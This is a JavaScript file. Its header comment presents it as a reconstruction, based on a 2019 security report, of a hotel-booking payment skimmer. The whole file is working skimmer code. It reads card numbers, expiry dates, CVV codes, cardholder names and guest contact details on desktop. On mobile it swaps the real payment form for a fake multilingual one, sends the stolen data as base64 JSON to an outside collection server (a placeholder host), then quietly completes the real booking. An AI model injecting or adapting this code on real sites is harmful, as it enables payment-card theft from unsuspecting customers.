// roomleader-hotel (variant b), written from Trend Micro's report on the hotel booking
// skimmer (September 2019): the second stage. On a desktop browser it reads the booking
// engine's card and guest fields when "Book" is pressed; on a phone it replaces the
// engine's payment form with its own card form, worded in the page's language (eight
// languages, as the report says), sends the card, then copies it into the real form and
// books as usual. Data goes base64 JSON in an XMLHttpRequest POST to the attackers' server.
(function () {
  var gate = "https://booking-engine-static.invalid/vh/log";
  var mobile = /Android|iPhone|iPad|Mobile/i.test(navigator.userAgent) || screen.width < 768;
  var T = {
    en: ["Card number", "Expiry date", "Security code", "Cardholder", "Confirm booking"],
    es: ["Número de tarjeta", "Caducidad", "Código de seguridad", "Titular", "Confirmar reserva"],
    fr: ["Numéro de carte", "Date d'expiration", "Cryptogramme", "Titulaire", "Confirmer la réservation"],
    de: ["Kartennummer", "Ablaufdatum", "Prüfnummer", "Karteninhaber", "Buchung bestätigen"],
    it: ["Numero di carta", "Scadenza", "Codice di sicurezza", "Intestatario", "Conferma prenotazione"],
    pt: ["Número do cartão", "Validade", "Código de segurança", "Titular", "Confirmar reserva"],
    nl: ["Kaartnummer", "Vervaldatum", "Beveiligingscode", "Kaarthouder", "Boeking bevestigen"],
    ru: ["Номер карты", "Срок действия", "Код CVV", "Владелец карты", "Подтвердить бронирование"]
  };
  var lang = (document.documentElement.lang || navigator.language || "en").slice(0, 2).toLowerCase();
  var L = T[lang] || T.en;
  function v(sel) { var e = document.querySelector(sel); return e ? e.value : ""; }
  function guest() {
    return { n: v("#guest_name, [name=name]"), s: v("#guest_surname, [name=surname]"), m: v("[type=email]"), p: v("[type=tel], [name=phone]") };
  }
  function ship(o) {
    o.g = guest(); o.h = location.hostname; o.mob = mobile ? 1 : 0;
    var x = new XMLHttpRequest();
    x.open("POST", gate, true);
    x.setRequestHeader("Content-Type", "text/plain");
    x.send(btoa(unescape(encodeURIComponent(JSON.stringify(o)))));
  }
  if (!mobile) {
    document.addEventListener("click", function (e) {
      if (!e.target.closest || !e.target.closest("#btn-book, .btn-reserve, button[type=submit]")) return;
      ship({ c: v("#card_number, [name=cardNumber]"), e: v("#card_month, [name=expMonth]") + "/" + v("#card_year, [name=expYear]"), v: v("#card_cvv, [name=cvv]"), o: v("#card_holder, [name=cardHolder]") });
    }, true);
    return;
  }
  var real = document.querySelector("#payment-form, form.payment");
  if (!real) return;
  real.style.display = "none";
  var f = document.createElement("form");
  f.className = real.className;
  f.innerHTML = "<label>" + L[0] + "</label><input name='x1' inputmode='numeric' autocomplete='cc-number'>" +
    "<label>" + L[1] + "</label><input name='x2' placeholder='MM/YY'>" +
    "<label>" + L[2] + "</label><input name='x3' maxlength='4' inputmode='numeric'>" +
    "<label>" + L[3] + "</label><input name='x4'><button type='submit'>" + L[4] + "</button>";
  real.parentNode.insertBefore(f, real);
  f.addEventListener("submit", function (e) {
    e.preventDefault();
    ship({ c: f.x1.value, e: f.x2.value, v: f.x3.value, o: f.x4.value });
    f.style.display = "none";
    real.style.display = "";
    var put = function (sel, val) { var el = real.querySelector(sel); if (el) el.value = val; };
    put("#card_number, [name=cardNumber]", f.x1.value);
    put("#card_cvv, [name=cvv]", f.x3.value);
    put("#card_holder, [name=cardHolder]", f.x4.value);
    var btn = real.querySelector("button[type=submit], input[type=submit]");
    if (btn) btn.click();
  });
})();
